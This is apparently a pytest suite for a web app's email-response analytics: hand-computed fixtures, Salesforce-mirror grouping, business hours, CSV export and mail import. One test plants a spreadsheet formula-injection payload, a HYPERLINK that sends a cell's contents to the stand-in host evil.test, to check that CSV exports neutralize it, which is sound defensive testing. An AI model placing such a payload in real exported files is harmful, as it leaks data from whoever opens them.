"""Analytics against a small dataset whose figures are worked out by hand."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime, timedelta

import pytest
from sqlmodel import select

from webapp.analytics.business_hours import BusinessHours
from webapp.analytics.facts import refresh_facts
from webapp.analytics.report import Query, percentile, run
from webapp.db import get_engine
from webapp.models import Contact, Conversation, Message, Workspace, WorkspaceAddress
from webapp.models.analytics import MessageFact
from webapp.models.mirror import SfAccount, SfContact, SfOpportunity, SfOpportunityHistory, SfUser

T0 = datetime(2026, 3, 2, 9, 0, tzinfo=UTC)  # a Monday
STAMP = datetime(2026, 1, 1, tzinfo=UTC)


def _thread(s, ws, email, steps, subject="Thread"):
    """steps: [(direction, minutes after T0)]."""
    contact = s.exec(select(Contact).where(Contact.workspace_id == ws, Contact.email_normalized == email)).first()
    if contact is None:
        contact = Contact(workspace_id=ws, name=email.split("@")[0], email=email, email_normalized=email)
        s.add(contact)
        s.flush()
    conv = Conversation(workspace_id=ws, contact_id=contact.id, subject=subject, last_activity_at=T0)
    s.add(conv)
    s.flush()
    for i, (direction, minutes) in enumerate(steps):
        inbound = direction == "in"
        s.add(Message(
            workspace_id=ws, conversation_id=conv.id, direction=direction,
            from_address=email if inbound else "agent@acme.test",
            to_addresses="support@acme.test" if inbound else email,
            sent_at=T0 + timedelta(minutes=minutes), message_id=f"<{conv.id}-{i}-{ws}@t>",
        ))
    s.flush()
    return conv.id


@pytest.fixture
def dataset(db, make_user):
    make_user("admin@acme.test", role="admin", workspace="Acme")
    make_user("admin@other.test", role="admin", workspace="Other")
    with db() as s:
        ws = s.exec(select(Workspace.id).where(Workspace.name == "Acme")).one()
        other = s.exec(select(Workspace.id).where(Workspace.name == "Other")).one()
        s.add(WorkspaceAddress(workspace_id=ws, value="acme.test"))
        ids = {
            # alpha.com: waits of 60 and 180 minutes (a follow-up while waiting starts no new wait)
            "a1": _thread(s, ws, "ann@alpha.com", [("in", 0), ("out", 60)]),
            "a2": _thread(s, ws, "ann@alpha.com", [("in", 0), ("in", 30), ("out", 180)]),
            # beta.io: waits of 30 and 120 minutes, then one unanswered
            "b1": _thread(s, ws, "bob@beta.io", [("in", 0), ("out", 30), ("in", 60), ("out", 180)]),
            "b2": _thread(s, ws, "bob@beta.io", [("in", 0)]),
            # a free-mail sender with no Salesforce contact: no account, even if a website says gmail.com
            "g1": _thread(s, ws, "carol@gmail.com", [("in", 0), ("out", 240)]),
            # another workspace: never counted
            "x1": _thread(s, other, "ann@alpha.com", [("in", 0), ("out", 1)]),
        }
        # The Salesforce mirror: Alpha by contact email, Beta by website domain only.
        s.add_all([
            SfUser(workspace_id=ws, sf_id="005A", name="Olive Owner"),
            SfAccount(workspace_id=ws, sf_id="001A", name="Alpha Corp", type="Enterprise", industry="Energy",
                      owner_id="005A", website="https://www.alpha.com", website_domain="alpha.com", system_modstamp=STAMP),
            SfAccount(workspace_id=ws, sf_id="001B", name="Beta LLC", type="SMB", industry="Retail",
                      website="https://beta.io", website_domain="beta.io", system_modstamp=STAMP),
            SfAccount(workspace_id=ws, sf_id="001G", name="Not Google", type="SMB",
                      website="https://gmail.com", website_domain="gmail.com", system_modstamp=STAMP),
            SfContact(workspace_id=ws, sf_id="003A", account_id="001A", email="Ann@Alpha.com", email_normalized="ann@alpha.com",
                      name="Ann", lead_source="Web", system_modstamp=STAMP),
            SfOpportunity(workspace_id=ws, sf_id="006A", account_id="001A", name="Alpha deal", stage_name="Negotiation/Review",
                          is_closed=False, system_modstamp=STAMP),
            SfOpportunity(workspace_id=ws, sf_id="006B", account_id="001B", name="Beta deal", stage_name="Closed Won",
                          is_closed=True, is_won=True, system_modstamp=STAMP),
            SfOpportunityHistory(workspace_id=ws, sf_id="008A1", opportunity_id="006A", stage_name="Qualification",
                                 created_date=T0 - timedelta(days=10), system_modstamp=STAMP),
            SfOpportunityHistory(workspace_id=ws, sf_id="008A2", opportunity_id="006A", stage_name="Negotiation/Review",
                                 created_date=T0 + timedelta(minutes=20), system_modstamp=STAMP),
        ])
    return ws, other, ids


@pytest.fixture
def facts(app, dataset):
    ws, other, ids = dataset
    refresh_facts(get_engine(app), ws)
    refresh_facts(get_engine(app), other)
    return dataset


def _rows(report):
    return {row.value: row for row in report.rows}


def test_volumes_reply_rate_and_response_times_by_domain(db, facts):
    ws, _, _ = facts
    with db() as s:
        report = run(s, ws, Query(group_by="domain"))
    rows = _rows(report)
    alpha, beta, gmail = rows["alpha.com"], rows["beta.io"], rows["gmail.com"]
    assert (alpha.received, alpha.sent, alpha.conversations, alpha.waits, alpha.replied) == (3, 2, 2, 2, 2)
    assert (beta.received, beta.sent, beta.conversations, beta.waits, beta.replied) == (3, 2, 2, 3, 2)
    assert beta.reply_rate == pytest.approx(2 / 3)
    assert (alpha.mean, alpha.median, alpha.p90) == (7200, 7200, pytest.approx(3600 + 0.9 * 7200))
    assert (beta.mean, beta.median) == (4500, 4500)
    assert gmail.median == 14400
    total = report.total
    assert (total.received, total.sent, total.conversations, total.waits, total.replied) == (7, 5, 5, 6, 5)
    # All answered waits: 60, 180, 30, 120, 240 minutes.
    assert total.median == 120 * 60 and total.mean == pytest.approx((60 + 180 + 30 + 120 + 240) * 60 / 5)


def test_percentile_matches_percentile_cont():
    assert percentile([10], 0.9) == 10
    assert percentile([0, 10], 0.5) == 5
    assert percentile([1, 2, 3, 4, 5, 6, 7, 8, 9, 10], 0.9) == pytest.approx(9.1)
    assert percentile([], 0.5) is None


def test_salesforce_dimensions(db, facts):
    ws, _, ids = facts
    with db() as s:
        by_account = _rows(run(s, ws, Query(group_by="account")))
        by_type = _rows(run(s, ws, Query(group_by="account_type")))
        by_owner = _rows(run(s, ws, Query(group_by="owner")))
        by_lead = _rows(run(s, ws, Query(group_by="lead_source")))
        by_open = _rows(run(s, ws, Query(group_by="open_stage")))
        by_industry = _rows(run(s, ws, Query(group_by="industry")))
        energy_only = run(s, ws, Query(group_by="domain", filters=(("industry", "Energy"),)))
    assert set(by_account) == {"Alpha Corp", "Beta LLC", "(none)"}  # gmail.com is free mail
    assert by_account["Beta LLC"].received == 3  # found by website domain
    assert by_type["Enterprise"].median == 7200 and by_type["SMB"].median == 4500
    assert by_owner["Olive Owner"].received == 3
    assert by_lead["Web"].received == 3 and by_lead["(none)"].received == 4
    assert by_open["Negotiation/Review"].received == 3 and "Closed Won" not in by_open
    assert by_industry["Energy"].received == 3 and by_industry["Retail"].received == 3
    assert [r.value for r in energy_only.rows] == ["alpha.com"]


def test_stage_when_sent_comes_from_opportunity_history(db, facts):
    ws, _, ids = facts
    with db() as s:
        stages = {
            (f.conversation_id, f.sent_at): f.stage_at_send
            for f in s.exec(select(MessageFact).where(MessageFact.account_sf_id == "001A")).all()
        }
    # The stage moved to Negotiation/Review 20 minutes after T0.
    assert stages[(ids["a1"], T0)] == "Qualification"
    assert stages[(ids["a1"], T0 + timedelta(minutes=60))] == "Negotiation/Review"


def test_filters_and_date_range(db, facts):
    ws, _, _ = facts
    with db() as s:
        enterprise = run(s, ws, Query(group_by="domain", filters=(("account_type", "Enterprise"),)))
        none_type = run(s, ws, Query(group_by="domain", filters=(("account_type", "(none)"),)))
        staged = run(s, ws, Query(group_by="account", filters=(("stage_at_send", "Qualification"),)))
        later = run(s, ws, Query(group_by="domain", start=T0.date() + timedelta(days=1)))
        that_day = run(s, ws, Query(group_by="domain", start=T0.date(), end=T0.date()))
    assert [r.value for r in enterprise.rows] == ["alpha.com"]
    assert [r.value for r in none_type.rows] == ["gmail.com"]
    assert [r.value for r in staged.rows] == ["Alpha Corp"] and staged.total.received == 2
    assert later.rows == [] and later.total.received == 0
    assert that_day.total.received == 7


def test_business_hours(app, db, facts):
    hours = BusinessHours.parse("Europe/Paris", "09:00", "17:00", "12345")
    friday = datetime(2026, 3, 6, 15, 0, tzinfo=UTC)  # 16:00 in Paris
    monday = datetime(2026, 3, 9, 9, 0, tzinfo=UTC)  # 10:00 in Paris
    assert hours.seconds_between(friday, monday) == 2 * 3600
    assert hours.seconds_between(monday, friday) == 0
    with pytest.raises(ValueError):
        BusinessHours.parse("UTC", "17:00", "09:00", "12345")
    ws, _, _ = facts
    with db() as s:
        wall = run(s, ws, Query(group_by="domain"))
        business = run(s, ws, Query(group_by="domain", business_hours=True))
    # Everything happened on a Monday between 09:00 and 13:00 UTC, inside business hours.
    assert business.total.median == wall.total.median


def test_workspace_isolation(db, facts):
    ws, other, _ = facts
    with db() as s:
        mine = run(s, ws, Query(group_by="domain"))
        theirs = run(s, other, Query(group_by="domain"))
    assert mine.total.received == 7 and theirs.total.received == 1
    assert theirs.rows[0].median == 60


def test_refresh_is_repeatable(app, db, facts):
    ws, _, _ = facts
    assert refresh_facts(get_engine(app), ws) == 12
    with db() as s:
        assert len(s.exec(select(MessageFact).where(MessageFact.workspace_id == ws)).all()) == 12


def test_page_csv_and_drill_down(client, facts, db):
    client.login("admin@acme.test", "correct-horse-battery")
    admin_client = client
    page = admin_client.get("/analytics?group=account_type")
    body = page.get_data(as_text=True)
    assert page.status_code == 200 and 'id="analytics-table"' in body and 'id="chart-volume"' in body
    assert "Enterprise" in body and "2h 00m" in body
    partial = admin_client.htmx_get("/analytics?group=account_type&f_industry=Energy")
    assert "<html" not in partial.get_data(as_text=True) and "HX-Request" in partial.headers["Vary"]
    exported = admin_client.get("/analytics/export.csv?group=account_type")
    rows = list(csv.reader(io.StringIO(exported.get_data(as_text=True))))
    assert rows[0][0] == "Account type"
    table = {r[0]: r for r in rows[1:]}
    assert table["Enterprise"][1:4] == ["3", "2", "2"] and table["Enterprise"][6] == "7200"
    assert table["Total"][1:4] == ["7", "5", "5"]
    # Exactly what the page shows: every row, every figure.
    with db() as s:
        report = run(s, 1, Query(group_by="account_type"))
    expected = [
        [r.value, str(r.received), str(r.sent), str(r.conversations),
         "" if r.reply_rate is None else f"{r.reply_rate:.4f}",
         *("" if v is None else str(round(v)) for v in (r.mean, r.median, r.p90))]
        for r in [*report.rows, report.total]
    ]
    assert rows[1:] == expected
    assert body.count("<tr") - 1 == len(expected)  # the table's rows, header excluded
    drill = admin_client.get("/analytics/conversations?group=account_type&value=SMB&measure=unanswered")
    text = drill.get_data(as_text=True)
    assert drill.status_code == 200 and text.count("/inbox/") == 1  # only b2 is unanswered


def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_are_neutralized(app, client, dataset, db):
    from sqlalchemy import update

    ws, _, _ = dataset
    hostile = '=HYPERLINK("http://evil.test/?leak="&A1,"Click")'
    with db() as s:
        s.execute(update(SfAccount).where(SfAccount.sf_id == "001A").values(name=hostile))
        s.execute(update(SfAccount).where(SfAccount.sf_id == "001B").values(name="@SUM(1+1)"))
    refresh_facts(get_engine(app), ws)
    client.login("admin@acme.test", "correct-horse-battery")
    exported = client.get("/analytics/export.csv?group=account").get_data(as_text=True)
    names = [r[0] for r in csv.reader(io.StringIO(exported))][1:]
    assert "'" + hostile in names and "'@SUM(1+1)" in names
    assert hostile not in names and not any(n.startswith(("=", "+", "-", "@")) for n in names)
    # The page itself shows the name as it is (escaped as HTML, never altered).
    page = client.get("/analytics?group=account").get_data(as_text=True)
    assert "=HYPERLINK(&#34;http://evil.test/?leak=&#34;&amp;A1,&#34;Click&#34;)" in page


@pytest.mark.parametrize("cell, written", [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@x", "'@x"), ("\tx", "'\tx"), ("\rx", "'\rx"),
    ("  =1", "'  =1"), ("a=b", "a=b"), ("", ""), (-5, -5), (3.5, 3.5), (None, None),
])
def test_neutralize_follows_owasp(cell, written):
    from webapp.csvfile import neutralize

    assert neutralize(cell) == written


def test_bad_report_parameters_are_400(client, facts):
    client.login("admin@acme.test", "correct-horse-battery")
    admin_client = client
    assert admin_client.get("/analytics?group=password").status_code == 400
    assert admin_client.get("/analytics?f_nope=1").status_code == 400
    assert admin_client.get("/analytics?from=2026-03-05&to=2026-03-01").status_code == 400
    assert admin_client.get("/analytics?from=yesterday").status_code == 400


def test_empty_states_say_what_to_do(admin_client):
    body = admin_client.get("/analytics").get_data(as_text=True)
    assert "No mail to analyse yet" in body and "Import mail" in body


def test_members_can_read_analytics(member_client):
    assert member_client.get("/analytics").status_code == 200


def test_date_only_inputs():
    assert Query(start=date(2026, 1, 1), end=date(2026, 1, 1)).end == date(2026, 1, 1)


def test_changing_business_hours_recomputes_business_times(client, facts, db):
    ws, _, _ = facts
    client.login("admin@acme.test", "correct-horse-battery")
    with db() as s:
        before = run(s, ws, Query(group_by="domain", business_hours=True)).total.mean
    # Open only from 10:00: the waits that began at 09:00 lose their first hour of business time.
    form = {"name": "Acme", "timezone": "UTC", "addresses": "acme.test", "business_start": "10:00",
            "business_end": "17:00", "business_days": ["", "1", "2", "3", "4", "5"]}
    assert client.post("/settings/workspace", form).status_code == 302
    with db() as s:
        after = run(s, ws, Query(group_by="domain", business_hours=True)).total.mean
        wall = run(s, ws, Query(group_by="domain")).total.mean
    assert before == wall == 126 * 60 and after == 84 * 60


def test_imported_mail_reaches_analytics(app, admin_client, db, tmp_path):
    mbox = tmp_path / "mail.mbox"
    mbox.write_bytes(
        b"From x@y Mon Mar  2 09:00:00 2026\n"
        b"From: Dora <dora@delta.test>\nTo: help@acme.test\nSubject: Hello\n"
        b"Date: Mon, 2 Mar 2026 09:00:00 +0000\nMessage-ID: <d1@delta.test>\n\nHi\n\n"
        b"From x@y Mon Mar  2 10:30:00 2026\n"
        b"From: Agent <agent@acme.test>\nTo: dora@delta.test\nSubject: Re: Hello\n"
        b"Date: Mon, 2 Mar 2026 10:30:00 +0000\nMessage-ID: <a1@acme.test>\nIn-Reply-To: <d1@delta.test>\n\nHello\n"
    )
    admin_client.post("/settings/workspace", {"name": "Acme", "timezone": "UTC", "addresses": "acme.test"})
    result = app.test_cli_runner().invoke(args=["import-mail", str(mbox), "--workspace", "Acme"])
    assert result.exit_code == 0, result.output
    with db() as s:
        report = run(s, 1, Query(group_by="domain"))
    assert _rows(report)["delta.test"].median == 90 * 60


def _mailbox(tmp_path, agent="agent@acme.test"):
    mbox = tmp_path / "mailbox.mbox"
    mbox.write_bytes(
        b"From x@y Mon Mar  2 09:00:00 2026\n"
        b"From: Dora <dora@delta.test>\nTo: help@acme.test\nSubject: Hello\n"
        b"Date: Mon, 2 Mar 2026 09:00:00 +0000\nMessage-ID: <d1@delta.test>\n\nHi\n\n"
        b"From x@y Mon Mar  2 10:30:00 2026\n"
        + f"From: Agent <{agent}>\nTo: dora@delta.test\nSubject: Re: Hello\n".encode()
        + b"Date: Mon, 2 Mar 2026 10:30:00 +0000\nMessage-ID: <a1@acme.test>\nIn-Reply-To: <d1@delta.test>\n\nHello\n"
    )
    return mbox


def test_a_mailbox_imported_into_a_new_workspace_shows_response_times(app, db, tmp_path):
    """No addresses set: the users' addresses and their domain are the workspace's own, so a
    colleague's reply from the same domain counts as sent."""
    cli = app.test_cli_runner()
    made = cli.invoke(args=["create-user", "admin@acme.test", "--role", "admin", "--workspace", "Fresh",
                            "--password", "correct-horse-battery"])
    assert made.exit_code == 0, made.output
    result = cli.invoke(args=["import-mail", str(_mailbox(tmp_path)), "--workspace", "Fresh"])
    assert result.exit_code == 0, result.output
    with db() as s:
        ws = s.exec(select(Workspace.id).where(Workspace.name == "Fresh")).one()
        directions = dict(s.exec(select(Message.from_address, Message.direction)).all())
        report = run(s, ws, Query(group_by="domain"))
    assert directions == {"dora@delta.test": "in", "agent@acme.test": "out"}
    assert _rows(report)["delta.test"].median == 90 * 60
    assert "acme.test" not in _rows(report)  # our own domain is no counterpart


def test_own_addresses_default_to_the_users_and_the_settings_replace_them(db, make_user):
    from webapp.addresses import own_addresses

    _, ws = make_user("ada@acme.test", role="admin", workspace="Acme")
    make_user("free@gmail.com", workspace="Acme")
    with db() as s:
        own = own_addresses(s, ws)
        assert not own.from_settings
        assert own.is_ours("Colleague@ACME.test") and own.is_ours("free@gmail.com")
        assert not own.is_ours("someone@gmail.com")  # a user at a free-mail host does not make it ours
        assert not own.is_ours("dora@delta.test") and not own.is_ours("") and not own.is_ours(None)
        s.add(WorkspaceAddress(workspace_id=ws, value="acme.io"))
        s.flush()
        listed = own_addresses(s, ws)
    assert listed.from_settings
    assert listed.is_ours("sales@acme.io") and listed.is_ours("ada@acme.test")  # a user's address stays ours
    assert not listed.is_ours("colleague@acme.test")  # the listed domains replace the default ones


def test_the_workspace_settings_say_what_counts_as_ours_by_default(admin_client):
    page = admin_client.get("/settings/workspace").get_data(as_text=True)
    assert 'id="own-defaults"' in page and "acme.test" in page
